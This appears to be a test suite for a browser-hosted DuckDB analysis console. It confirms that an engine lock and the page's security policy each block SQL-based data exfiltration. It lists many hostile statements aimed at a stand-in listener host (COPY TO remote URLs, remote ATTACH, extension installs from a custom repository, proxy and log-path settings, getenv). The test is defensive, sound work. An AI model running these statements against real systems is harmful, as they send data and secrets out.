import { readFile, rm } from 'node:fs/promises'
import { join } from 'node:path'
import type { Page } from 'playwright-core'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { temporaryFolder, writeBundle } from '../../fixtures/bundle.ts'
import { builtEnginePage } from '../built.ts'
import { launchChromium, serveFolders, type Chromium, type Server } from '../chromium.ts'
import type {} from '../engine-page/main.ts'

// What a statement might try to carry data away with. The engine's lock and the page's policy each hold it back alone.
let folder: string
let chromium: Chromium
let server: Server
/** Another origin that lets anybody in. */
let listener: Server

beforeAll(async () => {
  folder = await temporaryFolder()
  await writeBundle(join(folder, 'data/one'))
  const engine = await builtEnginePage()
  const html = await readFile(join(engine, 'index.html'), 'utf8')
  const bare = html.replace(/<meta\s+http-equiv="Content-Security-Policy"[^>]*>/, '')
  expect(bare).not.toBe(html)
  server = await serveFolders({ '/': engine, '/data/': join(folder, 'data') }, (path, response) => {
    if (path !== '/bare.html') return false
    response.setHeader('content-type', 'text/html').end(bare)
    return true
  })
  listener = await serveFolders({}, (_, response) => {
    response.setHeader('access-control-allow-origin', '*').setHeader('access-control-allow-headers', '*')
    response.end('a,b\n1,2\n')
    return true
  })
  chromium = await launchChromium({ asUsual: false })
})
afterAll(async () => {
  await chromium?.close()
  await listener?.close()
  await server?.close()
  await rm(folder, { recursive: true })
})

/** Each as it stands, with the address of the listener in it. */
const attempts = (url: string) => [
  `FROM read_csv('${url}/x.csv')`,
  `FROM read_csv_auto('${url}/x.csv')`,
  `FROM sniff_csv('${url}/x.csv')`,
  `FROM read_csv(['${url}/x.csv', 'x.csv'])`,
  `FROM read_csv($$${url}/x.csv$$)`,
  `FROM read_text('${url}/x.txt')`,
  `FROM read_blob('${url}/x.bin')`,
  `FROM read_json('${url}/x.json')`,
  `FROM read_parquet('${url}/x.parquet')`,
  `FROM parquet_scan('${url}/x.parquet')`,
  `FROM parquet_metadata('${url}/x.parquet')`,
  `FROM parquet_schema('${url}/x.parquet')`,
  `FROM glob('${url}/*')`,
  `FROM '${url}/x.csv'`,
  `FROM '${url}/x.parquet'`,
  `FROM "${url}/x.csv"`,
  `SELECT * FROM jobs, read_csv('${url}/' || title || '.csv')`,
  `SELECT (SELECT content FROM read_text('${url}/x.txt'))`,
  `CREATE TABLE taken AS FROM read_csv('${url}/x.csv')`,
  `CREATE VIEW away AS FROM read_csv('${url}/x.csv')`,
  `PREPARE away AS FROM read_csv('${url}/x.csv')`,
  `EXPLAIN ANALYZE FROM read_csv('${url}/x.csv')`,
  `FROM query('FROM read_csv(''${url}/x.csv'')')`,
  `FROM query_table('${url}/x.csv')`,
  `COPY jobs TO '${url}/x.csv'`,
  `COPY (SELECT title FROM jobs) TO '${url}/x.parquet' (FORMAT parquet)`,
  `COPY jobs FROM '${url}/x.csv'`,
  `COPY jobs TO '/tmp/x.csv'`,
  `COPY jobs TO 'opfs://x.csv'`,
  `EXPORT DATABASE '${url}/all'`,
  `IMPORT DATABASE '${url}/all'`,
  `ATTACH '${url}/x.db'`,
  `ATTACH '${url}/x.db' AS other (READ_ONLY)`,
  `ATTACH 'x.db' AS other`,
  `ATTACH 'host=127.0.0.1' AS other (TYPE postgres)`,
  `ATTACH '${url}/x.db' AS other (TYPE sqlite)`,
  `INSTALL httpfs`,
  `FORCE INSTALL httpfs`,
  `/* quietly */ INSTALL httpfs FROM '${url}'`,
  `INSTALL '${url}/x.duckdb_extension'`,
  `LOAD httpfs`,
  `LOAD '${url}/x.duckdb_extension'`,
  `UPDATE EXTENSIONS`,
  `SET custom_extension_repository = '${url}'`,
  `SET s3_endpoint = '127.0.0.1'`,
  `SET http_proxy = '${url}'`,
  `SET home_directory = '/tmp'`,
  `PRAGMA enable_external_access = true`,
  `PRAGMA database_list; SET enable_external_access = true`,
  `CREATE SECRET away (TYPE s3, ENDPOINT '127.0.0.1')`,
  `CREATE PERSISTENT SECRET away (TYPE http)`,
  `SELECT getenv('HOME')`,
  `SELECT to_json(title) FROM jobs`,
  `SELECT '{}'::JSON -> 'x'`,
  `SELECT now() AT TIME ZONE 'Asia/Kolkata'`,
  `FROM sqlite_scan('${url}/x.db', 't')`,
  `FROM postgres_scan('host=127.0.0.1', 'public', 't')`,
  `FROM iceberg_scan('${url}')`,
  `FROM delta_scan('${url}')`,
  `FROM st_read('${url}/x.shp')`,
  `FROM read_xlsx('${url}/x.xlsx')`,
  `SELECT http_get('${url}')`,
  `PRAGMA import_database('${url}/all')`,
  `PRAGMA enable_logging`,
  `PRAGMA enable_profiling = 'json'; SET profiling_output = '${url}/x.json'`,
  `SET log_query_path = '${url}/x.log'`,
  `SET temp_directory = '${url}'`,
]

/** Each table function that takes a text first, pointed at the listener, and each setting, set and reset. */
const byCatalogue = `
  SELECT DISTINCT 'FROM ' || function_name || '(''$url/x'')' AS attempt
  FROM duckdb_functions() WHERE function_type = 'table' AND parameter_types[1] IN ('VARCHAR', 'VARCHAR[]', 'ANY')
  UNION ALL
  SELECT 'SET ' || name || ' = ''' || replace(coalesce(value, ''), '''', '''''') || '''' FROM duckdb_settings()
  UNION ALL SELECT 'SET GLOBAL ' || name || ' = ''$url''' FROM duckdb_settings()
  UNION ALL SELECT 'RESET ' || name FROM duckdb_settings()
  UNION ALL SELECT 'PRAGMA ' || name || ' = ''$url''' FROM duckdb_settings()`

/** What the engine has of settings by which data could leave, or the lock be opened. */
const safetySettings = [
  'access_mode',
  'allow_community_extensions',
  'allow_extensions_metadata_mismatch',
  'allow_persistent_secrets',
  'allow_unredacted_secrets',
  'allow_unsigned_extensions',
  'allowed_directories',
  'allowed_paths',
  'autoinstall_extension_repository',
  'autoinstall_known_extensions',
  'autoload_known_extensions',
  'builtin_httpfs',
  'custom_extension_repository',
  'default_secret_storage',
  'disabled_compression_methods',
  'disabled_filesystems',
  'disabled_log_types',
  'disabled_optimizers',
  'enable_external_access',
  'enable_external_file_cache',
  'enable_http_logging',
  'enable_http_metadata_cache',
  'enable_logging',
  'enabled_log_types',
  'experimental_s3_tables_global_proxy',
  'extension_directory',
  'file_search_path',
  'home_directory',
  'http_logging_output',
  'http_proxy',
  'http_proxy_password',
  'http_proxy_username',
  'lock_configuration',
  'log_query_path',
  'logging_level',
  'logging_mode',
  'logging_storage',
  'max_temp_directory_size',
  'partitioned_write_max_open_files',
  'profile_output',
  's3_access_key_id',
  's3_endpoint',
  's3_region',
  's3_secret_access_key',
  's3_session_token',
  'search_path',
  'secret_directory',
  'temp_directory',
  'temp_file_encryption',
]

interface Outcome {
  sql: string
  code: string
  message: string
}

const tryLocked = async (page: Page, statements: readonly string[] | null): Promise<Outcome[]> =>
  page.evaluate(
    async ([statements, byCatalogue, url]) => {
      const analyst = await window.hirescope.openConsole('data/one/')
      const all = [...(statements ?? [])]
      if (!statements)
        await analyst.query(byCatalogue, {
          onBatch: (batch) =>
            all.push(...batch.toArray().map(({ attempt }) => String(attempt).replaceAll('$url', url))),
        })
      const outcomes: Outcome[] = []
      for (const sql of all) {
        const outcome = await analyst.query(sql).then(
          () => ({ code: 'ran', message: '' }),
          ({ code, message }) => ({ code: String(code), message: String(message) }),
        )
        outcomes.push({ sql, ...outcome })
      }
      await analyst.close()
      return outcomes
    },
    [statements, byCatalogue, listener.url] as const,
  )

const tryUnlocked = async (page: Page, statements: readonly string[]): Promise<Outcome[]> =>
  page.evaluate(async (statements) => {
    let run = await window.hirescope.startUnlocked()
    const outcomes: Outcome[] = []
    for (const sql of statements) {
      const patience = new Promise((_, reject) => setTimeout(() => reject(new Error('no answer')), 5_000))
      const outcome = await Promise.race([run(sql), patience]).then(
        () => ({ code: 'ran', message: '' }),
        (error: Error) => ({ code: 'failed', message: error.message }),
      )
      if (outcome.message === 'no answer') run = await window.hirescope.startUnlocked()
      outcomes.push({ sql, ...outcome })
    }
    return outcomes
  }, statements)

const open = async (path: string) => {
  const page = await chromium.browser.newPage()
  await page.goto(server.url + path)
  return page
}

/** What reached the listener, this server's data, or any host, by what was done. */
const reached = async (act: () => Promise<void>) => {
  const [here, there, elsewhere] = [server.requests.length, listener.requests.length, chromium.foreign.length]
  await act()
  const own = server.requests.slice(here).filter((path) => !/^\/(assets\/|data\/|bare\.html|favicon\.ico|$)/.test(path))
  return [...own, ...listener.requests.slice(there), ...chromium.foreign.slice(elsewhere)]
}

/** Statements that name what the engine does not have are refused as such, which is a refusal, too. */
const isRefused = ({ code, message }: Outcome) =>
  code === 'refused' ||
  (code === 'sql' &&
    /does not exist|does not support|not found|unrecognized|not recognized|not implemented|syntax error|cannot be|requires|must be|No function matches|Unsupported|not supported|Could not|Invalid|expected|in the catalog/i.test(
      message,
    ))

describe.each([
  ['the lock alone', '/bare.html'],
  ['the lock and the policy of the page', '/'],
])('with %s', (_, path) => {
  it('refuses each attempt with an error, and reaches nothing', async () => {
    const page = await open(path)
    const hits = await reached(async () => {
      const outcomes = await tryLocked(page, attempts(listener.url))
      expect(outcomes.filter((outcome) => !isRefused(outcome))).toEqual([])
      expect(outcomes.filter(({ message }) => message.length > 400 || /\n.*\n.*\n/.test(message))).toEqual([])
    })
    expect(hits).toEqual([])
    await page.close()
  })

  it('refuses whatever else the engine’s own catalogue offers: functions of tables and settings', async () => {
    const page = await open(path)
    const hits = await reached(async () => {
      const outcomes = await tryLocked(page, null)
      expect(outcomes.length).toBeGreaterThan(500)
      // Where the engine looks for names is the analyst's own.
      const settings = outcomes.filter(({ sql }) => /^(SET|RESET|PRAGMA) (?!schema|search_path)/.test(sql))
      expect(settings.filter((outcome) => outcome.code === 'ran')).toEqual([])
    })
    expect(hits).toEqual([])
    await page.close()
  })
})

it('tries each function that reads files, and knows each setting that bears on safety', async () => {
  const page = await open('/')
  const outcomes = await tryLocked(page, null)
  const functions = outcomes.flatMap(({ sql, code }) => {
    const [, name] = /^FROM (\w+)\(/.exec(sql) ?? []
    return name !== undefined && code === 'refused' ? [name] : []
  })
  const settings = outcomes.flatMap(({ sql }) => /^RESET (\w+)$/.exec(sql)?.[1] ?? [])
  const bearing = settings.filter((name) =>
    /(?<![a-z])(?:access|allow|lock|profile|disabled|secret|extension|proxy|directory|path|file|http|s3|log|url|token|credential)/.test(
      name,
    ),
  )
  const texts = attempts(listener.url)
  expect(functions.filter((name) => !texts.some((sql) => sql.includes(`${name}(`)))).toEqual([])
  expect(bearing.sort()).toEqual([...safetySettings].sort())
  await page.close()
})

it('reaches nothing with the policy of the page alone', async () => {
  const page = await open('/')
  const hits = await reached(async () => {
    await tryUnlocked(page, [
      ...attempts(listener.url),
      `CALL enable_logging(storage = 'file', storage_path = '${listener.url}')`,
    ])
  })
  expect(hits).toEqual([])
  await page.close()
})

it('would be noticed: with neither, a statement reaches the listener', async () => {
  const page = await open('/bare.html')
  const hits = await reached(async () => {
    await tryUnlocked(page, [`FROM read_csv('${listener.url}/x.csv')`])
  })
  expect(hits).toContain('/x.csv')
  await page.close()
})
